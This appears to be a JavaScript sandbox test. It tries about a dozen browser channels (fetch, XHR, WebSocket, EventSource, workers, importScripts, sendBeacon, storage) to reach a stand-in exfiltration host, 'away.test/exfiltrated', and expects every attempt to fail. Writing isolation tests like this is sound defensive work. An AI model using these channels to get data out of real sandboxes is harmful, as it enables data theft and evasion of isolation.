// Attack: goes to the network before our part of the worker has taken it away: only the policy is left
// Ends: failed
export default function ({ pass }) {
  const away = 'http://away.test/exfiltrated';
  const tries = [
    () => fetch(away, { mode: 'no-cors' }).catch(() => {}),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', away, false);
      request.send();
    },
    () => new WebSocket(away.replace('http', 'ws')),
    () => new EventSource(away),
    () => importScripts(away),
    () => import(away).catch(() => {}),
    () => new Worker(away),
    () => {
      const text = `fetch(${JSON.stringify(away)}).catch(() => {})`;
      return new Worker(URL.createObjectURL(new Blob([text])));
    },
    () => new FontFace('x', `url(${away})`).load().catch(() => {}),
    () => navigator.sendBeacon(away),
    () => indexedDB.open('secret'),
    () => caches.open('secret').catch(() => {}),
  ];
  for (const attempt of tries) {
    try {
      attempt();
    } catch {
      // The next way, then.
    }
  }
  pass();
}
